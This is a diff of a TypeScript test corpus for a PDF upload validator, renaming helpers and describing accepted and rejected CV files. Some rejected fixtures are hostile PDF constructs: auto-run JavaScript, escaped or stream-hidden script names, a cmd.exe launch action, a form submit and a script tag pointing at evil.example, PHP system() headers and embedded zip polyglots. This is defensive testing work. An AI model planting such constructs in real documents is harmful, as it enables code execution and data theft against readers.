@@ -1,16 +1,16 @@
 import { deflateSync } from 'node:zlib';
-import { bad, badOfAnyKind, type CorpusFile, good } from './corpus-file.ts';
+import { acceptedFile, type CorpusFile, rejectedFile, rejectedFilesOfAnyKind } from './corpus-file.ts';
 import { makeDocx } from './make-docx.ts';
 import { makePdf } from './make-pdf.ts';
 import { makeZip } from './make-zip.ts';
 
-const sound = makePdf();
-const before = (end: number): Buffer => sound.subarray(0, sound.length + end);
+const validPdf = makePdf();
+const truncate = (end: number): Buffer => validPdf.subarray(0, validPdf.length + end);
 const join = (...parts: readonly (string | Buffer)[]): Buffer =>
   Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
 const zip = makeZip([{ name: 'run.exe', content: 'MZ' }]);
-/** Objects in a stream of objects. */
-const packed = (objects: string, dictionary = '/Filter /FlateDecode', type = '/ObjStm'): string => {
+/** An object stream. */
+const createObjectStream = (objects: string, dictionary = '/Filter /FlateDecode', type = '/ObjStm'): string => {
   const data = dictionary === '' ? Buffer.from(objects) : deflateSync(objects);
   const head = `<< /Type ${type} /N 1 /First 4 /Length ${data.length} ${dictionary} >>`;
   return `${head}\nstream\n${data.toString('latin1')}\nendstream`;
@@ -19,109 +19,113 @@ const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
 const key = '/Encrypt 9 0 R /ID [<00><00>]';
 
 export const pdfCorpus: readonly CorpusFile[] = [
-  good('a plain one', 'cv.pdf', () => sound),
-  good('one with a table of objects that is a stream', 'cv.pdf', () => makePdf({ isStream: true })),
-  good('one of the oldest kind', 'cv.pdf', () => makePdf({ version: '1.0' })),
-  good('one of the newest kind', 'cv.pdf', () => makePdf({ version: '2.0', isStream: true })),
-  good('one that ends without a line break', 'cv.pdf', () => makePdf({ end: '%%EOF' })),
-  good('one with blanks and zeros behind its end', 'cv.pdf', () => join(sound, ' \r\n\0\0\0')),
-  good('one that was changed, and has two ends', 'cv.pdf', () =>
-    join(sound, sound.subarray(sound.lastIndexOf('xref\n0'))),
+  acceptedFile('a simple PDF', 'cv.pdf', () => validPdf),
+  acceptedFile('a cross-reference stream', 'cv.pdf', () => makePdf({ isStream: true })),
+  acceptedFile('version 1.0', 'cv.pdf', () => makePdf({ version: '1.0' })),
+  acceptedFile('version 2.0', 'cv.pdf', () => makePdf({ version: '2.0', isStream: true })),
+  acceptedFile('no line break at the end', 'cv.pdf', () => makePdf({ end: '%%EOF' })),
+  acceptedFile('trailing spaces and null bytes', 'cv.pdf', () => join(validPdf, ' \r\n\0\0\0')),
+  acceptedFile('an incremental update with two ends', 'cv.pdf', () =>
+    join(validPdf, validPdf.subarray(validPdf.lastIndexOf('xref\n0'))),
   ),
-  good('one of five megabytes', 'cv.pdf', () => makePdf({ head: `%${'x'.repeat(4_998_000)}\n` })),
-  good('one that speaks of keys, and has none', 'cv.pdf', () =>
-    makePdf({ words: '/Encrypt', trailer: '/EncryptMetadata true' }),
+  acceptedFile('five megabytes', 'cv.pdf', () => makePdf({ head: `%${'x'.repeat(4_998_000)}\n` })),
+  acceptedFile('text about encryption', 'cv.pdf', () =>
+    makePdf({ pageText: '/Encrypt', trailer: '/EncryptMetadata true' }),
   ),
-  good('one that was called by its path', 'C:\\fakepath\\My CV.PDF', () => sound),
-  good('one with letters of many languages in its name', '履歴書 – Zoë (2026).pdf', () => sound),
-  good('one with the signs of a zip in its words', 'cv.pdf', () =>
-    makePdf({ words: 'PK\u0005\u0006 and PK\u0003\u0004' }),
+  acceptedFile('a name with a path', 'C:\\fakepath\\My CV.PDF', () => validPdf),
+  acceptedFile('a name in several scripts', '履歴書 – Zoë (2026).pdf', () => validPdf),
+  acceptedFile('zip signatures in its text', 'cv.pdf', () =>
+    makePdf({ pageText: 'PK\u0005\u0006 and PK\u0003\u0004' }),
   ),
-  good('one with words of a page in them, far from its start', 'cv.pdf', () =>
-    makePdf({ head: `%${' '.repeat(2000)}<html>\n` }),
+  acceptedFile('HTML far from the start', 'cv.pdf', () => makePdf({ head: `%${' '.repeat(2000)}<html>\n` })),
+  ...rejectedFilesOfAnyKind('.pdf', () => validPdf),
+  rejectedFile('only a header', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n')),
+  rejectedFile('only a header and an end', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n%%EOF\n')),
+  rejectedFile('a header without a version', 'kind', 'cv.pdf', () => join('%PDF-\n', validPdf)),
+  rejectedFile('an unknown version', 'kind', 'cv.pdf', () => makePdf({ version: '9.9' })),
+  rejectedFile('a missing end marker', 'damaged', 'cv.pdf', () => truncate(-6)),
+  rejectedFile('a truncated PDF', 'damaged', 'cv.pdf', () => validPdf.subarray(0, validPdf.length / 2)),
+  rejectedFile('a table offset after the end', 'damaged', 'cv.pdf', () => makePdf({ tableOffset: () => 99_999_999 })),
+  rejectedFile('a table offset without a table', 'damaged', 'cv.pdf', () => makePdf({ tableOffset: () => 12 })),
+  rejectedFile('a table offset that is no number', 'damaged', 'cv.pdf', () => makePdf({ tableOffset: () => 'here' })),
+  rejectedFile('an object instead of the table', 'damaged', 'cv.pdf', () =>
+    makePdf({ tableOffset: () => validPdf.indexOf('1 0 obj') }),
   ),
-  ...badOfAnyKind('.pdf', () => sound),
-  bad('only its first line', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n')),
-  bad('first line and end alone', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n%%EOF\n')),
-  bad('a first line without a version', 'kind', 'cv.pdf', () => join('%PDF-\n', sound)),
-  bad('a version that there is not', 'kind', 'cv.pdf', () => makePdf({ version: '9.9' })),
-  bad('one that was cut off before its end', 'damaged', 'cv.pdf', () => before(-6)),
-  bad('its first half', 'damaged', 'cv.pdf', () => sound.subarray(0, sound.length / 2)),
-  bad('a table of objects behind its end', 'damaged', 'cv.pdf', () => makePdf({ tell: () => 99_999_999 })),
-  bad('a table of objects where there is none', 'damaged', 'cv.pdf', () => makePdf({ tell: () => 12 })),
-  bad('a place that is no number', 'damaged', 'cv.pdf', () => makePdf({ tell: () => 'here' })),
-  bad('an object in the place of the table', 'damaged', 'cv.pdf', () =>
-    makePdf({ tell: () => sound.indexOf('1 0 obj') }),
+  rejectedFile('a table without a root', 'damaged', 'cv.pdf', () =>
+    join(validPdf.toString('latin1').replace('/Root 1 0 R', '')),
   ),
-  bad('a table without a root', 'damaged', 'cv.pdf', () => join(sound.toString('latin1').replace('/Root 1 0 R', ''))),
-  bad('five megabytes behind its end', 'damaged', 'cv.pdf', () => join(sound, Buffer.alloc(4_990_000, 32))),
-  bad('a trailer of four megabytes', 'damaged', 'cv.pdf', () => makePdf({ trailer: ' '.repeat(4_000_000) })),
-  bad('an encrypted one', 'locked', 'cv.pdf', () => makePdf({ trailer: key })),
-  bad('an encrypted one with a table that is a stream', 'locked', 'cv.pdf', () =>
+  rejectedFile('five megabytes after the end', 'damaged', 'cv.pdf', () => join(validPdf, Buffer.alloc(4_990_000, 32))),
+  rejectedFile('a trailer of four megabytes', 'damaged', 'cv.pdf', () => makePdf({ trailer: ' '.repeat(4_000_000) })),
+  rejectedFile('an encrypted PDF', 'locked', 'cv.pdf', () => makePdf({ trailer: key })),
+  rejectedFile('an encrypted PDF with a cross-reference stream', 'locked', 'cv.pdf', () =>
     makePdf({ trailer: key, isStream: true }),
   ),
-  bad('an encrypted one that writes the word otherwise', 'locked', 'cv.pdf', () =>
+  rejectedFile('an encrypted PDF with an escaped name', 'locked', 'cv.pdf', () =>
     makePdf({ trailer: key.replace('crypt', '#63rypt') }),
   ),
-  bad('an encrypted one with its key in place', 'locked', 'cv.pdf', () =>
+  rejectedFile('an encrypted PDF with an inline dictionary', 'locked', 'cv.pdf', () =>
     makePdf({ trailer: '/Encrypt<</Filter/Standard/V 2>>' }),
   ),
-  good('one that names languages and keys in its words', 'cv.pdf', () =>
-    makePdf({ words: 'HTML/CSS/JS, Java/JavaScript, /Launch, /EmbeddedFile', catalog: '/Lang (C/JavaScript)' }),
+  acceptedFile('text with names of languages and actions', 'cv.pdf', () =>
+    makePdf({ pageText: 'HTML/CSS/JS, Java/JavaScript, /Launch, /EmbeddedFile', catalog: '/Lang (C/JavaScript)' }),
   ),
-  good('one with harmless objects in a stream of objects', 'cv.pdf', () =>
-    makePdf({ object: packed('9 0 << /Title (About /JavaScript) /S /GoTo >>'), isStream: true }),
+  acceptedFile('harmless objects in an object stream', 'cv.pdf', () =>
+    makePdf({ object: createObjectStream('9 0 << /Title (About /JavaScript) /S /GoTo >>'), isStream: true }),
   ),
-  bad('a script that runs when it is opened', 'active', 'cv.pdf', () => makePdf({ catalog: `/OpenAction ${script}` })),
-  bad('a script in an object of its own', 'active', 'cv.pdf', () =>
+  rejectedFile('a script that runs when it is opened', 'active', 'cv.pdf', () =>
+    makePdf({ catalog: `/OpenAction ${script}` }),
+  ),
+  rejectedFile('a script in a separate object', 'active', 'cv.pdf', () =>
     makePdf({ catalog: '/AA << /WC 6 0 R >>', object: script }),
   ),
-  bad('a script whose name is written otherwise', 'active', 'cv.pdf', () =>
+  rejectedFile('a script with an escaped name', 'active', 'cv.pdf', () =>
     makePdf({ object: '<</S/#4AavaScrip#74/J#53(x)>>' }),
   ),
-  bad('a script behind a comment', 'active', 'cv.pdf', () => makePdf({ object: '<< /S %x\n /JavaScript /JS (x) >>' })),
-  bad('a script whose kind is an object', 'active', 'cv.pdf', () => makePdf({ object: '/JavaScript' })),
-  bad('a script in a stream of objects', 'active', 'cv.pdf', () =>
-    makePdf({ object: packed(`9 0 ${script}`), isStream: true }),
+  rejectedFile('a script after a comment', 'active', 'cv.pdf', () =>
+    makePdf({ object: '<< /S %x\n /JavaScript /JS (x) >>' }),
   ),
-  bad('a script in a stream of objects whose name is written otherwise', 'active', 'cv.pdf', () =>
-    makePdf({ object: packed(`9 0 ${script}`, '/Filter[/Fl#61teDecode]', '/Obj#53tm'), isStream: true }),
+  rejectedFile('a script type in a separate object', 'active', 'cv.pdf', () => makePdf({ object: '/JavaScript' })),
+  rejectedFile('a script in an object stream', 'active', 'cv.pdf', () =>
+    makePdf({ object: createObjectStream(`9 0 ${script}`), isStream: true }),
   ),
-  bad('a script in a stream of objects that is not compressed', 'active', 'cv.pdf', () =>
-    makePdf({ object: packed('9 0 << /S /#4aavaScript >>', ''), isStream: true }),
+  rejectedFile('a script in an object stream with escaped names', 'active', 'cv.pdf', () =>
+    makePdf({ object: createObjectStream(`9 0 ${script}`, '/Filter[/Fl#61teDecode]', '/Obj#53tm'), isStream: true }),
   ),
-  bad('objects that are compressed as nobody does', 'damaged', 'cv.pdf', () =>
-    makePdf({ object: packed(`9 0 ${script}`, '/Filter /LZWDecode') }),
+  rejectedFile('a script in an uncompressed object stream', 'active', 'cv.pdf', () =>
+    makePdf({ object: createObjectStream('9 0 << /S /#4aavaScript >>', ''), isStream: true }),
   ),
-  bad('objects of a hundred megabytes', 'swollen', 'cv.pdf', () =>
-    makePdf({ object: packed(' '.repeat(100_000_000)) }),
+  rejectedFile('an object stream with an unusual filter', 'damaged', 'cv.pdf', () =>
+    makePdf({ object: createObjectStream(`9 0 ${script}`, '/Filter /LZWDecode') }),
   ),
-  bad('a program to start', 'active', 'cv.pdf', () =>
+  rejectedFile('an object stream of a hundred megabytes', 'swollen', 'cv.pdf', () =>
+    makePdf({ object: createObjectStream(' '.repeat(100_000_000)) }),
+  ),
+  rejectedFile('a launch action', 'active', 'cv.pdf', () =>
     makePdf({ object: '<< /Type /Action /S /Launch /F (cmd.exe) >>' }),
   ),
-  bad('an action that sends a form', 'active', 'cv.pdf', () =>
+  rejectedFile('an action that submits a form', 'active', 'cv.pdf', () =>
     makePdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' }),
   ),
-  bad('a form with scripts of its own', 'active', 'cv.pdf', () =>
-    makePdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' }),
-  ),
-  bad('a file inside', 'active', 'cv.pdf', () => makePdf({ catalog: '/Names << /EmbeddedFiles 6 0 R >>' })),
-  bad('a file that is attached to a note', 'active', 'cv.pdf', () =>
+  rejectedFile('an XFA form', 'active', 'cv.pdf', () => makePdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' })),
+  rejectedFile('an embedded file', 'active', 'cv.pdf', () => makePdf({ catalog: '/Names << /EmbeddedFiles 6 0 R >>' })),
+  rejectedFile('a file attached to an annotation', 'active', 'cv.pdf', () =>
     makePdf({ object: '<< /Type /Filespec /EF << /F 7 0 R >> >>' }),
   ),
-  bad('a zip behind it', 'kind', 'cv.pdf', () => join(sound, zip)),
-  bad('a zip in it', 'kind', 'cv.pdf', () => makePdf({ head: `%${zip.toString('latin1')}\n` })),
-  bad('a zip in it whose directory knows its place', 'kind', 'cv.pdf', () =>
-    makeZip([{ name: 'a', content: 'x' }], { before: sound, after: sound }),
+  rejectedFile('a zip after the PDF', 'kind', 'cv.pdf', () => join(validPdf, zip)),
+  rejectedFile('a zip inside the PDF', 'kind', 'cv.pdf', () => makePdf({ head: `%${zip.toString('latin1')}\n` })),
+  rejectedFile('a zip inside the PDF with correct offsets', 'kind', 'cv.pdf', () =>
+    makeZip([{ name: 'a', content: 'x' }], { before: validPdf, after: validPdf }),
   ),
-  bad('a zip in it that says a wrong length of its directory', 'kind', 'cv.pdf', () =>
-    makeZip([{ name: 'a', content: 'x' }], { before: sound, after: sound, end: { 12: 1 } }),
+  rejectedFile('a zip inside the PDF with a wrong directory size', 'kind', 'cv.pdf', () =>
+    makeZip([{ name: 'a', content: 'x' }], { before: validPdf, after: validPdf, end: { 12: 1 } }),
   ),
-  bad('a document behind it', 'kind', 'cv.pdf', () => join(sound, makeDocx())),
-  bad('a document that is called a PDF', 'kind', 'cv.pdf', () => makeDocx()),
-  bad('a page in its first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<html><body onload=alert(1)>\n' })),
-  bad('a script in its first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<SCRIPT src=//evil.example>\n' })),
-  bad('a program of a server in its first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<?php system(1);\n' })),
-  bad('a RAR archive behind it', 'kind', 'cv.pdf', () => join(sound, 'Rar!\u001a\u0007\u0001\u0000')),
-  bad('a 7z archive in it', 'kind', 'cv.pdf', () => makePdf({ head: "%7z\u00bc\u00af'\u001c\n" })),
+  rejectedFile('a DOCX after the PDF', 'kind', 'cv.pdf', () => join(validPdf, makeDocx())),
+  rejectedFile('a DOCX named .pdf', 'kind', 'cv.pdf', () => makeDocx()),
+  rejectedFile('HTML in the first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<html><body onload=alert(1)>\n' })),
+  rejectedFile('a script tag in the first lines', 'kind', 'cv.pdf', () =>
+    makePdf({ head: '%<SCRIPT src=//evil.example>\n' }),
+  ),
+  rejectedFile('PHP in the first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<?php system(1);\n' })),
+  rejectedFile('a RAR archive after the PDF', 'kind', 'cv.pdf', () => join(validPdf, 'Rar!\u001a\u0007\u0001\u0000')),
+  rejectedFile('a 7z archive inside the PDF', 'kind', 'cv.pdf', () => makePdf({ head: "%7z\u00bc\u00af'\u001c\n" })),
 ];
